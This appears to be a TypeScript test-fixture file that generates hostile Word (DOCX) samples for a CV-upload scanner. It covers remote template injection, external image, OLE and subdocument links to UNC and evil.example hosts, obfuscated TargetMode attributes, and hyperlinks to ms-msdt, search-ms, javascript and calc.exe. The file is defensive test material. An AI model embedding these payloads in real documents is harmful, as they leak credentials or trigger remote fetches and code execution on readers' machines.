import { relationships } from '../build-docx.ts';
import type { HostileCv } from '../hostile-cv.ts';
import { docxs, withTemplate } from './docxs.ts';

/** Addresses that Word would fetch from when it opens the file. */
const elsewhere = [
  '\\\\10.0.0.1\\share\\x',
  'file://10.0.0.1/share/x',
  'file:////10.0.0.1/share/x',
  'file:///\\\\10.0.0.1\\share\\x',
  'file:\\\\10.0.0.1\\share\\x',
  '//10.0.0.1/share/x',
  'https://evil.example/x',
  'http://evil.example@80/x',
  '\\\\evil.example@SSL\\DavWWWRoot\\x',
  'mhtml:http://evil.example/x!x-usc:http://evil.example/x',
  'ftp://evil.example/x',
  'h&#116;tps://evil.example/x',
];

export function fetched(): HostileCv[] {
  const rels = (xml: string) => withTemplate('', '', xml);
  const type = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate';
  const ns = 'http://schemas.openxmlformats.org/package/2006/relationships';
  return [
    ...docxs(
      'a template from elsewhere',
      'fetches',
      ...elsewhere.map((target) => withTemplate(target, 'External')),
      withTemplate('https://evil.example/x', 'E&#x78;ternal'),
      withTemplate('https://evil.example/x', 'external'),
      withTemplate('https://evil.example/x', ' External '),
      rels(
        `<odd:Relationships xmlns:odd="${ns}"><odd:Relationship Id="r" Type="${type}" Target="//evil/x" TargetMode="External"/></odd:Relationships>`,
      ),
      rels(
        `<Relationships xmlns="${ns}"><Relationship Id=">" Type="${type}" Target="//evil/x" TargetMode="External"/></Relationships>`,
      ),
      rels(
        `<Relationships xmlns="${ns}"><Relationship TargetMode='External' Target='//evil/x' Type='${type}' Id='r'></Relationship></Relationships>`,
      ),
      // What a link names is fetched where the settings name the link.
      rels(relationships([{ type: 'hyperlink', target: 'https://evil.example/x.dotm', mode: 'External' }])),
    ),
    ...docxs(
      'a template from elsewhere',
      'damaged',
      // Two attributes of one name: which one counts is up to the reader.
      rels(
        `<Relationships xmlns="${ns}" xmlns:x="urn:x"><Relationship x:Type="${type.replace('attachedTemplate', 'hyperlink')}" x:Target="https://example.com" Id="r" Type="${type}" Target="//evil/x" TargetMode="External"/></Relationships>`,
      ),
      rels(
        `<Relationships xmlns="${ns}" xmlns:x="urn:x"><Relationship x:TargetMode="Internal" Id="r" Type="${type}" Target="a.dotm"/></Relationships>`,
      ),
    ),
    ...[
      'image',
      'frame',
      'oleObject',
      'subDocument',
      'mailMergeSource',
      'audio',
      'font',
      'customXml',
    ].flatMap((kind) =>
      docxs(
        `${kind} from elsewhere`,
        'fetches',
        ...elsewhere
          .slice(0, 3)
          .map((target) => ({ relationships: [{ type: kind, target, mode: 'External' }] })),
      ),
    ),
    ...docxs(
      'image from elsewhere',
      'fetches',
      {
        relationships: [
          {
            type: 'http://purl.oclc.org/ooxml/officeDocument/relationships/image',
            target: '//evil/x',
            mode: 'External',
          },
        ],
      },
      { relationships: [{ type: 'image', target: 'file://evil/x' }] },
      // As it is where a picture names it.
      {
        relationships: [{ type: 'hyperlink', target: 'https://evil.example/x.png', mode: 'External' }],
        body: '<w:p><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="rId1"/></w:p>',
      },
      { body: '<w:p><w:pict><v:shape><v:imagedata src="\\\\evil\\x.png"/></v:shape></w:pict></w:p>' },
      {
        body: '<w:p><w:object><o:OLEObject Type="Link" ProgID="Word.Document" r:id="rId1"/></w:object></w:p>',
      },
    ),
    ...docxs(
      'a link to something else',
      'oddLink',
      ...[
        'file://10.0.0.1/x',
        '\\\\10.0.0.1\\x',
        'javascript:alert(1)',
        'ms-msdt:/id',
        'search-ms:query=x',
        'file:///C:/Windows/System32/calc.exe',
      ].flatMap((target) => [
        { relationships: [{ type: 'hyperlink', target, mode: 'External' }] },
        { relationships: [{ type: 'hyperlink', target }] },
      ]),
      {
        parts: [
          {
            name: 'docProps/app.xml',
            content:
              '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"><HyperlinkBase>file://evil/</HyperlinkBase></Properties>',
          },
        ],
      },
    ),
  ];
}
